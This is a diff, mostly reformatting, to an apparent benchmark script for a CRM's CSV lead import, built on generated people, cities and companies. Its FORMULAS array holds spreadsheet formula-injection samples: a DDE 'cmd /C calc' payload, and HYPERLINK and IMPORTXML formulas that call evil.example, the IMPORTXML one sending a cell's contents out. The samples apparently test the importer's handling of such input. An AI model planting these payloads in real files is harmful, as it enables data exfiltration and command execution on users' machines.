@@ -17,8 +17,22 @@ import { finished } from "node:stream/promises";
 import { matchKeys, type LeadLike } from "../core/dedup/keys.ts";
 import { dedupGenerator } from "../test/support/dedup-set.ts";
 import {
-  createTenantAdmin, fmt, killTree, leadhubEnv, login, ratio, scratchDirs, sleep, spawnProc, spawnTs, startServer, table, withPrefix,
-  type BenchEnv, type BenchReport, type Proc,
+  createTenantAdmin,
+  fmt,
+  killTree,
+  leadhubEnv,
+  login,
+  ratio,
+  scratchDirs,
+  sleep,
+  spawnProc,
+  spawnTs,
+  startServer,
+  table,
+  withPrefix,
+  type BenchEnv,
+  type BenchReport,
+  type Proc,
 } from "./lib.ts";
 import { cpuSnapshot, cpuSplit, formatSplit, sampleWaits, waitForQuiet } from "./observe.ts";
 import { monoMicros, profileArgs, profiling, summariseProfile } from "./profile.ts";
@@ -50,20 +64,95 @@ export const importBudgetMs = () => (IMPORT_TIMEOUT_S + SCAN_TIMEOUT_S) * 1000 +
 
 // ---- the file --------------------------------------------------------------------------------
 
-const HEADERS = ["Record ID", "First Name", "Last Name", "Email", "Phone Number", "Mobile Phone Number", "Company Name", "Job Title", "City", "State/Region", "Country/Region", "Lifecycle Stage", "Create Date"];
-const TITLES = ["", "", "Director", "Managing Director", "Proprietor", "Purchase Manager", "CEO", "Founder", "Head of Operations", "Sales Manager", "Marketing Manager", "Procurement Head", "Partner", "Software Engineer", "Owner", "Accountant", "VP Sales", "Consultant"];
+const HEADERS = [
+  "Record ID",
+  "First Name",
+  "Last Name",
+  "Email",
+  "Phone Number",
+  "Mobile Phone Number",
+  "Company Name",
+  "Job Title",
+  "City",
+  "State/Region",
+  "Country/Region",
+  "Lifecycle Stage",
+  "Create Date",
+];
+const TITLES = [
+  "",
+  "",
+  "Director",
+  "Managing Director",
+  "Proprietor",
+  "Purchase Manager",
+  "CEO",
+  "Founder",
+  "Head of Operations",
+  "Sales Manager",
+  "Marketing Manager",
+  "Procurement Head",
+  "Partner",
+  "Software Engineer",
+  "Owner",
+  "Accountant",
+  "VP Sales",
+  "Consultant",
+];
 const STAGES = ["subscriber", "lead", "lead", "lead", "marketingqualifiedlead", "salesqualifiedlead", "opportunity", "customer", "other"];
 const STATES: Record<string, string> = {
-  Pune: "Maharashtra", Mumbai: "Maharashtra", Nagpur: "Maharashtra", Nashik: "Maharashtra", Kolhapur: "Maharashtra", Aurangabad: "Maharashtra",
-  Delhi: "Delhi", Lucknow: "Uttar Pradesh", Kanpur: "Uttar Pradesh", Noida: "Uttar Pradesh", Jaipur: "Rajasthan", Indore: "Madhya Pradesh",
-  Bhopal: "Madhya Pradesh", Patna: "Bihar", Chennai: "Tamil Nadu", Coimbatore: "Tamil Nadu", Madurai: "Tamil Nadu", Trichy: "Tamil Nadu",
-  Salem: "Tamil Nadu", Hyderabad: "Telangana", Warangal: "Telangana", Vijayawada: "Andhra Pradesh", Visakhapatnam: "Andhra Pradesh",
-  Guntur: "Andhra Pradesh", Kolkata: "West Bengal", Howrah: "West Bengal", Durgapur: "West Bengal", Siliguri: "West Bengal",
-  Ahmedabad: "Gujarat", Surat: "Gujarat", Vadodara: "Gujarat", Rajkot: "Gujarat", Amritsar: "Punjab", Ludhiana: "Punjab", Jalandhar: "Punjab",
-  Chandigarh: "Chandigarh", Patiala: "Punjab", Kochi: "Kerala", Thiruvananthapuram: "Kerala", Kozhikode: "Kerala", Thrissur: "Kerala",
-  "New York": "NY", Boston: "MA", Chicago: "IL", Seattle: "WA",
+  Pune: "Maharashtra",
+  Mumbai: "Maharashtra",
+  Nagpur: "Maharashtra",
+  Nashik: "Maharashtra",
+  Kolhapur: "Maharashtra",
+  Aurangabad: "Maharashtra",
+  Delhi: "Delhi",
+  Lucknow: "Uttar Pradesh",
+  Kanpur: "Uttar Pradesh",
+  Noida: "Uttar Pradesh",
+  Jaipur: "Rajasthan",
+  Indore: "Madhya Pradesh",
+  Bhopal: "Madhya Pradesh",
+  Patna: "Bihar",
+  Chennai: "Tamil Nadu",
+  Coimbatore: "Tamil Nadu",
+  Madurai: "Tamil Nadu",
+  Trichy: "Tamil Nadu",
+  Salem: "Tamil Nadu",
+  Hyderabad: "Telangana",
+  Warangal: "Telangana",
+  Vijayawada: "Andhra Pradesh",
+  Visakhapatnam: "Andhra Pradesh",
+  Guntur: "Andhra Pradesh",
+  Kolkata: "West Bengal",
+  Howrah: "West Bengal",
+  Durgapur: "West Bengal",
+  Siliguri: "West Bengal",
+  Ahmedabad: "Gujarat",
+  Surat: "Gujarat",
+  Vadodara: "Gujarat",
+  Rajkot: "Gujarat",
+  Amritsar: "Punjab",
+  Ludhiana: "Punjab",
+  Jalandhar: "Punjab",
+  Chandigarh: "Chandigarh",
+  Patiala: "Punjab",
+  Kochi: "Kerala",
+  Thiruvananthapuram: "Kerala",
+  Kozhikode: "Kerala",
+  Thrissur: "Kerala",
+  "New York": "NY",
+  Boston: "MA",
+  Chicago: "IL",
+  Seattle: "WA",
 };
-const FORMULAS = ['=HYPERLINK("http://evil.example/x","Click, here")', "=1+2", "=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/x","Click, here")',
+  "=1+2",
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
+];
 
 /** mulberry32, as the people generator: the same file for the same size, run after run. */
 function prng(seed: number) {
@@ -95,7 +184,7 @@ async function writeCsv(path: string, rows: number): Promise<CsvStats> {
   const t0 = performance.now();
   const gen = dedupGenerator(SEED);
   const rnd = prng(SEED + 1);
-  const pick = <T,>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
   const pool: LeadLike[] = [];
   let seen = 0;
   const stats: CsvStats = { rows, bytes: 0, seconds: 0, people: 0, repeats: 0, unusable: 0, formulas: 0 };
@@ -113,8 +202,21 @@ async function writeCsv(path: string, rows: number): Promise<CsvStats> {
     // Most numbers in "Phone Number"; some exports only have the mobile column filled.
     const mobileOnly = rnd() < 0.25;
     const phone = p.phone ?? "";
-    return [String(51_000_000 + i * 3), first, last, p.email ?? "", mobileOnly ? "" : phone, mobileOnly ? phone : "", p.company ?? "", pick(TITLES),
-      p.city ?? "", STATES[p.city ?? ""] ?? "", p.country ?? "", pick(STAGES), createDate()];
+    return [
+      String(51_000_000 + i * 3),
+      first,
+      last,
+      p.email ?? "",
+      mobileOnly ? "" : phone,
+      mobileOnly ? phone : "",
+      p.company ?? "",
+      pick(TITLES),
+      p.city ?? "",
+      STATES[p.city ?? ""] ?? "",
+      p.country ?? "",
+      pick(STAGES),
+      createDate(),
+    ];
   };
   /** The same person again, written differently: the email (case, Gmail dots, +tag) or the phone (another format, email left out). */
   const repeatOf = (p: LeadLike): LeadLike => {
@@ -122,8 +224,14 @@ async function writeCsv(path: string, rows: number): Promise<CsvStats> {
     const [local, domain] = (p.email ?? "@").split("@");
     const way = rnd();
     if (way < 0.55 && p.email) {
-      const forms = [`${local.toUpperCase()}@${domain}`, `${local[0].toUpperCase()}${local.slice(1)}@${domain.toUpperCase()}`, `${local}+${pick(["hs", "promo", "diwali", "webinar"])}@${domain}`, p.email];
-      if (domain === "gmail.com") forms.push(`${local.replace(/\./g, "").split("").join(".")}@gmail.com`, `${local.replace(/\./g, "")}@googlemail.com`);
+      const forms = [
+        `${local.toUpperCase()}@${domain}`,
+        `${local[0].toUpperCase()}${local.slice(1)}@${domain.toUpperCase()}`,
+        `${local}+${pick(["hs", "promo", "diwali", "webinar"])}@${domain}`,
+        p.email,
+      ];
+      if (domain === "gmail.com")
+        forms.push(`${local.replace(/\./g, "").split("").join(".")}@gmail.com`, `${local.replace(/\./g, "")}@googlemail.com`);
       again.email = pick(forms);
     } else {
       const e164 = matchKeys(p, { region: "IN" }).phoneKeys[0];
@@ -145,7 +253,14 @@ async function writeCsv(path: string, rows: number): Promise<CsvStats> {
       // A name and a company, and contact cells nobody can reach.
       const p = gen.person();
       stats.people++;
-      cells = cellsOf({ ...p, email: pick(["", "n/a", "not given", "rahul@", "www.example.in"]), phone: pick(["", "12345", "0000000000", "call office"]) }, i);
+      cells = cellsOf(
+        {
+          ...p,
+          email: pick(["", "n/a", "not given", "rahul@", "www.example.in"]),
+          phone: pick(["", "12345", "0000000000", "call office"]),
+        },
+        i,
+      );
       stats.unusable++;
     } else if (r < UNUSABLE_SHARE + REPEAT_SHARE && pool.length) {
       cells = cellsOf(repeatOf(pool[Math.floor(rnd() * pool.length)]), i);
@@ -195,14 +310,24 @@ interface Limit {
  */
 async function copyLimit(env: BenchEnv, path: string, rows: number): Promise<Limit> {
   const cols = HEADERS.map((h) => h.toLowerCase().replace(/[^a-z]+/g, "_"));
-  const p = spawnProc("psql", "psql", ["-X", "-q", "-v", "ON_ERROR_STOP=1", "-d", env.databaseUrl], { PATH: process.env.PATH, HOME: process.env.HOME }, { stdin: true });
+  const p = spawnProc(
+    "psql",
+    "psql",
+    ["-X", "-q", "-v", "ON_ERROR_STOP=1", "-d", env.databaseUrl],
+    { PATH: process.env.PATH, HOME: process.env.HOME },
+    { stdin: true },
+  );
   const say = async (commands: string, done: string, timeoutMs: number) => {
     const line = p.waitForLine(new RegExp(`^${done}$`), timeoutMs);
     p.child.stdin!.write(`${commands}\n\\echo ${done}\n`);
     await line;
   };
   try {
-    await say(`CREATE TABLE bench_import_copy (${cols.map((c) => `${c} text`).join(", ")});\nCREATE UNIQUE INDEX ON bench_import_copy (record_id);`, "ready", 60_000);
+    await say(
+      `CREATE TABLE bench_import_copy (${cols.map((c) => `${c} text`).join(", ")});\nCREATE UNIQUE INDEX ON bench_import_copy (record_id);`,
+      "ready",
+      60_000,
+    );
     await waitForQuiet();
     const groups = { psql: p.child.pid! };
     const a = cpuSnapshot(groups, env.dbName);
@@ -219,10 +344,61 @@ async function copyLimit(env: BenchEnv, path: string, rows: number): Promise<Lim
   }
 }
 
-const FIRST = ["Rahul", "Priya", "Amit", "Sneha", "Karthik", "Lakshmi", "Venkatesh", "Sourav", "Hardik", "Gurpreet", "Anoop", "Robert", "Fatima", "Wei", "Ananya", "Vikas", "Neha", "Arjun", "Swathi", "Mohammed", "Pooja", "Sachin", "Divya", "Harpreet"];
-const LAST = ["Patil", "Sharma", "Iyer", "Reddy", "Banerjee", "Patel", "Singh", "Nair", "Smith", "Khan", "Tan", "Deshmukh", "Gupta", "Kulkarni", "Mehta", "Ghosh"];
+const FIRST = [
+  "Rahul",
+  "Priya",
+  "Amit",
+  "Sneha",
+  "Karthik",
+  "Lakshmi",
+  "Venkatesh",
+  "Sourav",
+  "Hardik",
+  "Gurpreet",
+  "Anoop",
+  "Robert",
+  "Fatima",
+  "Wei",
+  "Ananya",
+  "Vikas",
+  "Neha",
+  "Arjun",
+  "Swathi",
+  "Mohammed",
+  "Pooja",
+  "Sachin",
+  "Divya",
+  "Harpreet",
+];
+const LAST = [
+  "Patil",
+  "Sharma",
+  "Iyer",
+  "Reddy",
+  "Banerjee",
+  "Patel",
+  "Singh",
+  "Nair",
+  "Smith",
+  "Khan",
+  "Tan",
+  "Deshmukh",
+  "Gupta",
+  "Kulkarni",
+  "Mehta",
+  "Ghosh",
+];
 const CITIES = ["Pune", "Mumbai", "Delhi", "Chennai", "Hyderabad", "Kolkata", "Ahmedabad", "Kochi", "Bengaluru", "Jaipur"];
-const COMPANIES = ["Sahyadri Infra Pvt Ltd", "Kaveri Textiles LLP", "Ganga Logistics Ltd", "Nilgiri Foods Pvt Ltd", "Deccan Realty", "Indus Fintech Pvt Ltd", "Apex Builders", "Zenith Polymers Ltd"];
+const COMPANIES = [
+  "Sahyadri Infra Pvt Ltd",
+  "Kaveri Textiles LLP",
+  "Ganga Logistics Ltd",
+  "Nilgiri Foods Pvt Ltd",
+  "Deccan Realty",
+  "Indus Fintech Pvt Ltd",
+  "Apex Builders",
+  "Zenith Polymers Ltd",
+];
 const arr = (xs: string[]) => `ARRAY[${xs.map((x) => `'${x}'`).join(",")}]`;
 
 /**
@@ -231,7 +407,10 @@ const arr = (xs: string[]) => `ARRAY[${xs.map((x) => `'${x}'`).join(",")}]`;
  * custom fields) filled, so every index of the table does its work: the floor of writing leads.
  */
 async function leadsFloor(env: BenchEnv, rows: number): Promise<Limit> {
-  const [{ id: tenantId }] = await env.db("tenants").insert({ name: "Import floor bench", slug: `import-floor-${env.runId}` }).returning("id");
+  const [{ id: tenantId }] = await env
+    .db("tenants")
+    .insert({ name: "Import floor bench", slug: `import-floor-${env.runId}` })
+    .returning("id");
   const chunk = 100_000;
   await waitForQuiet();
   const a = cpuSnapshot({}, env.dbName);
@@ -281,7 +460,8 @@ function memoryOf(pid: number): { rss: number; hwm: number } | null {
  */
 function checkNodeProcess(pid: number, script: string): string {
   const argv = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0").filter(Boolean);
-  if (argv[0] !== process.execPath || !argv.includes(script)) throw new Error(`pid ${pid} is not node running ${script}: ${argv.join(" ")}`);
+  if (argv[0] !== process.execPath || !argv.includes(script))
+    throw new Error(`pid ${pid} is not node running ${script}: ${argv.join(" ")}`);
   const children = readdirSync("/proc").flatMap((d) => {
     try {
       const stat = readFileSync(`/proc/${d}/stat`, "utf8");
@@ -305,7 +485,11 @@ async function upload(url: string, token: string, path: string, size: number): P
   const t0 = performance.now();
   const req = request(`${url}/api/imports`, {
     method: "POST",
-    headers: { authorization: `Bearer ${token}`, "content-type": `multipart/form-data; boundary=${boundary}`, "content-length": head.length + size + tail.length },
+    headers: {
+      authorization: `Bearer ${token}`,
+      "content-type": `multipart/form-data; boundary=${boundary}`,
+      "content-length": head.length + size + tail.length,
+    },
   });
   const answered = new Promise<{ status: number; body: string }>((resolve, reject) => {
     req.once("error", reject);
@@ -416,7 +600,7 @@ async function leadhub(runEnv: BenchEnv, path: string, size: number, dataDir: st
     await started;
     const workerStartRss = memoryOf(wpid)!.rss;
     const token = await login(api.url, admin.email, admin.password);
-    const get = async <T,>(p: string): Promise<T> => {
+    const get = async <T>(p: string): Promise<T> => {
       const res = await fetch(`${api!.url}${p}`, { headers: { authorization: `Bearer ${token}` } });
       if (!res.ok) throw new Error(`GET ${p} answered ${res.status}: ${await res.text()}`);
       return res.json() as Promise<T>;
@@ -432,8 +616,14 @@ async function leadhub(runEnv: BenchEnv, path: string, size: number, dataDir: st
     if (up.status !== 201) throw new Error(`POST /api/imports answered ${up.status}: ${up.body.slice(0, 500)}`);
     const created = JSON.parse(up.body) as ImportRow;
     const apiHwm = memoryOf(api.p.child.pid!)?.hwm ?? NaN;
-    console.log(`  upload: ${(size / 1e6).toFixed(1)} MB in ${up.seconds.toFixed(2)} s → ${(size / 1e6 / up.seconds).toFixed(1)} MB/s; API peak RSS ${apiHwm.toFixed(0)} MB; CPU: ${formatSplit(uploadCpu)}`);
-    console.log(`  mapping proposed: ${Object.entries(created.proposed_mapping).map(([h, t]) => `${h} → ${t}`).join(", ")}`);
+    console.log(
+      `  upload: ${(size / 1e6).toFixed(1)} MB in ${up.seconds.toFixed(2)} s → ${(size / 1e6 / up.seconds).toFixed(1)} MB/s; API peak RSS ${apiHwm.toFixed(0)} MB; CPU: ${formatSplit(uploadCpu)}`,
+    );
+    console.log(
+      `  mapping proposed: ${Object.entries(created.proposed_mapping)
+        .map(([h, t]) => `${h} → ${t}`)
+        .join(", ")}`,
+    );
 
     // 2. The import, polled every 500 ms until done (or cancelled at the timeout).
     const i0 = cpuSnapshot(groups, env.dbName);
@@ -456,9 +646,14 @@ async function leadhub(runEnv: BenchEnv, path: string, size: number, dataDir: st
       if (["done", "failed", "cancelled"].includes(imp.status)) break;
       if (!importTimedOut && el > IMPORT_TIMEOUT_S) {
         importTimedOut = true;
-        const res = await fetch(`${api.url}/api/imports/${created.id}/cancel`, { method: "POST", headers: { authorization: `Bearer ${token}` } });
+        const res = await fetch(`${api.url}/api/imports/${created.id}/cancel`, {
+          method: "POST",
+          headers: { authorization: `Bearer ${token}` },
+        });
         endTicks();
-        console.log(`  import: over BENCH_IMPORT_TIMEOUT_S=${IMPORT_TIMEOUT_S} s, cancelled (${res.status}); the rate below is over the rows processed so far`);
+        console.log(
+          `  import: over BENCH_IMPORT_TIMEOUT_S=${IMPORT_TIMEOUT_S} s, cancelled (${res.status}); the rate below is over the rows processed so far`,
+        );
       }
     }
     windows.import[1] = monoMicros();
@@ -529,8 +724,24 @@ async function leadhub(runEnv: BenchEnv, path: string, size: number, dataDir: st
     const workerHwm = memoryOf(wpid)?.hwm ?? NaN;
     console.log(`  worker: ${workerCheck}; RSS ${workerStartRss.toFixed(0)} MB when started, peak ${workerHwm.toFixed(0)} MB (VmHWM)`);
     out = {
-      upload: { seconds: up.seconds, cpu: uploadCpu, apiHwm }, imp, importSeconds, importRate, importTimedOut, importCpu, importWaits, importRss,
-      scan, scanSeconds, scanRate, scanTimedOut, scanCpu, scanWaits, scanRss, workerStartRss, workerHwm, workerCheck,
+      upload: { seconds: up.seconds, cpu: uploadCpu, apiHwm },
+      imp,
+      importSeconds,
+      importRate,
+      importTimedOut,
+      importCpu,
+      importWaits,
+      importRss,
+      scan,
+      scanSeconds,
+      scanRate,
+      scanTimedOut,
+      scanCpu,
+      scanWaits,
+      scanRss,
+      workerStartRss,
+      workerHwm,
+      workerCheck,
     };
   } finally {
     await Promise.all([api && killTree(api.p), worker && killTree(worker)]); // the profile is written as the worker exits
@@ -550,7 +761,9 @@ async function leadhub(runEnv: BenchEnv, path: string, size: number, dataDir: st
 // ---- the figure ------------------------------------------------------------------------------
 
 export async function benchImport(env: BenchEnv): Promise<BenchReport> {
-  console.log(`\n== import: a ${fmt(ROWS)}-row HubSpot-style CSV through POST /api/imports and one worker, beside \\copy and a set-based INSERT into leads ==`);
+  console.log(
+    `\n== import: a ${fmt(ROWS)}-row HubSpot-style CSV through POST /api/imports and one worker, beside \\copy and a set-based INSERT into leads ==`,
+  );
   const dir = mkdtempSync(join(tmpdir(), "lh-bench-import-"));
   scratchDirs.add(dir);
   try {
@@ -566,10 +779,14 @@ export async function benchImport(env: BenchEnv): Promise<BenchReport> {
 
     // The limits first, on the same machine, minutes apart: the leads table then holds the floor's rows (another tenant) during leadhub's import.
     const copy = await copyLimit(env, path, ROWS);
-    console.log(`  \\copy into a plain table + unique index: ${copy.seconds.toFixed(2)} s → ${fmt(copy.perSecond)} rows/s; CPU: ${formatSplit(copy.cpu)}`);
+    console.log(
+      `  \\copy into a plain table + unique index: ${copy.seconds.toFixed(2)} s → ${fmt(copy.perSecond)} rows/s; CPU: ${formatSplit(copy.cpu)}`,
+    );
     await env.db.raw("DROP TABLE bench_import_copy");
     const floor = await leadsFloor(env, ROWS);
-    console.log(`  INSERT … SELECT generate_series into leads (all indexes): ${floor.seconds.toFixed(2)} s → ${fmt(floor.perSecond)} rows/s; CPU: ${formatSplit(floor.cpu)}`);
+    console.log(
+      `  INSERT … SELECT generate_series into leads (all indexes): ${floor.seconds.toFixed(2)} s → ${fmt(floor.perSecond)} rows/s; CPU: ${formatSplit(floor.cpu)}`,
+    );
     await env.db.raw("VACUUM ANALYZE leads");
 
     const r = await leadhub(env, path, csv.bytes, dataDir);
@@ -580,19 +797,45 @@ export async function benchImport(env: BenchEnv): Promise<BenchReport> {
     const scanNote = r.scan
       ? `${fmt(r.scanRate, 1)} leads/s (${fmt(r.scan.processed)} of ${fmt(r.scan.total)} in ${r.scanSeconds.toFixed(0)} s${r.scanTimedOut ? ", STILL RUNNING at the timeout" : ""}; merged ${fmt(r.scan.merged)}, reviews ${fmt(r.scan.reviews)})`
       : "no scan (the import did not finish)";
-    const cores = (split: Record<string, number>, pre: string) => Object.entries(split).reduce((a, [k, v]) => (k.startsWith(pre) ? a + v : a), 0);
-    const msPerRow = (split: Record<string, number>, rate: number, pre: string) => (rate > 0 ? ((cores(split, pre) / rate) * 1000).toFixed(3) : "–");
+    const cores = (split: Record<string, number>, pre: string) =>
+      Object.entries(split).reduce((a, [k, v]) => (k.startsWith(pre) ? a + v : a), 0);
+    const msPerRow = (split: Record<string, number>, rate: number, pre: string) =>
+      rate > 0 ? ((cores(split, pre) / rate) * 1000).toFixed(3) : "–";
     const t = table(
       ["what", "rows/s", "leadhub vs this", "time", "CPU ms/row: node + postgres", "CPU (cores of 2)"],
       [
-        ["psql \\copy into a plain table (13 text columns, unique index)", fmt(copy.perSecond), ratio(r.importRate, copy.perSecond, 3), `${copy.seconds.toFixed(1)} s`,
-          `${msPerRow(copy.cpu, copy.perSecond, "psql")} + ${msPerRow(copy.cpu, copy.perSecond, "postgres")}`, formatSplit(copy.cpu)],
-        ["INSERT … SELECT generate_series into leads (all indexes)", fmt(floor.perSecond), ratio(r.importRate, floor.perSecond, 2), `${floor.seconds.toFixed(1)} s`,
-          `– + ${msPerRow(floor.cpu, floor.perSecond, "postgres")}`, formatSplit(floor.cpu)],
-        [`leadhub import, 1 worker${partial ? ` (${imp.status}, partial)` : ""}`, rateNote, "1.00×", `${r.importSeconds.toFixed(1)} s`,
-          `${msPerRow(r.importCpu, r.importRate, "worker")} + ${msPerRow(r.importCpu, r.importRate, "postgres")}`, formatSplit(r.importCpu)],
-        ["leadhub duplicate scan after it (fuzzy pass), leads/s", r.scan ? fmt(r.scanRate, 1) : "–", "", r.scan ? `${r.scanSeconds.toFixed(1)} s` : "",
-          r.scan ? `${msPerRow(r.scanCpu, r.scanRate, "worker")} + ${msPerRow(r.scanCpu, r.scanRate, "postgres")}` : "", formatSplit(r.scanCpu)],
+        [
+          "psql \\copy into a plain table (13 text columns, unique index)",
+          fmt(copy.perSecond),
+          ratio(r.importRate, copy.perSecond, 3),
+          `${copy.seconds.toFixed(1)} s`,
+          `${msPerRow(copy.cpu, copy.perSecond, "psql")} + ${msPerRow(copy.cpu, copy.perSecond, "postgres")}`,
+          formatSplit(copy.cpu),
+        ],
+        [
+          "INSERT … SELECT generate_series into leads (all indexes)",
+          fmt(floor.perSecond),
+          ratio(r.importRate, floor.perSecond, 2),
+          `${floor.seconds.toFixed(1)} s`,
+          `– + ${msPerRow(floor.cpu, floor.perSecond, "postgres")}`,
+          formatSplit(floor.cpu),
+        ],
+        [
+          `leadhub import, 1 worker${partial ? ` (${imp.status}, partial)` : ""}`,
+          rateNote,
+          "1.00×",
+          `${r.importSeconds.toFixed(1)} s`,
+          `${msPerRow(r.importCpu, r.importRate, "worker")} + ${msPerRow(r.importCpu, r.importRate, "postgres")}`,
+          formatSplit(r.importCpu),
+        ],
+        [
+          "leadhub duplicate scan after it (fuzzy pass), leads/s",
+          r.scan ? fmt(r.scanRate, 1) : "–",
+          "",
+          r.scan ? `${r.scanSeconds.toFixed(1)} s` : "",
+          r.scan ? `${msPerRow(r.scanCpu, r.scanRate, "worker")} + ${msPerRow(r.scanCpu, r.scanRate, "postgres")}` : "",
+          formatSplit(r.scanCpu),
+        ],
       ],
     );
     const peak = Math.max(r.workerHwm, r.importRss, r.scanRss);
@@ -603,12 +846,20 @@ export async function benchImport(env: BenchEnv): Promise<BenchReport> {
       `import: busy PostgreSQL backends (avg): ${formatSplit(r.importWaits.waits) || "none"}; statements most seen running: ${r.importWaits.topQueries}`,
       `worker peak memory: **${peak.toFixed(0)} MB** (VmHWM ${r.workerHwm.toFixed(0)} MB; VmRSS sampled every 500 ms: max ${r.importRss.toFixed(0)} MB during the import${r.scan ? `, ${r.scanRss.toFixed(0)} MB during the scan` : ""}; ${r.workerStartRss.toFixed(0)} MB at start) — goal < ${MEMORY_GOAL_MB} MB: ${peak < MEMORY_GOAL_MB ? "met" : "NOT met"}; ${r.workerCheck}`,
       `fuzzy pass (duplicate scan of the import's leads): ${scanNote}`,
-      ...(r.scan ? [`scan: busy PostgreSQL backends (avg): ${formatSplit(r.scanWaits.waits) || "none"}; statements most seen running: ${r.scanWaits.topQueries}`] : []),
+      ...(r.scan
+        ? [
+            `scan: busy PostgreSQL backends (avg): ${formatSplit(r.scanWaits.waits) || "none"}; statements most seen running: ${r.scanWaits.topQueries}`,
+          ]
+        : []),
       ...(r.importProfile ? [`worker CPU profile, import: ${r.importProfile}`] : []),
       ...(r.scanProfile ? [`worker CPU profile, scan: ${r.scanProfile}`] : []),
       `leads floor ran first (another tenant): the leads table held ${fmt(ROWS)} other rows during leadhub's import`,
     ];
-    return { name: "import", text: `${t.text}\n${notes.join("\n")}`, markdown: `${t.markdown}\n\n${notes.map((n) => `- ${n}`).join("\n")}` };
+    return {
+      name: "import",
+      text: `${t.text}\n${notes.join("\n")}`,
+      markdown: `${t.markdown}\n\n${notes.map((n) => `- ${n}`).join("\n")}`,
+    };
   } finally {
     rmSync(dir, { recursive: true, force: true });
     scratchDirs.delete(dir);
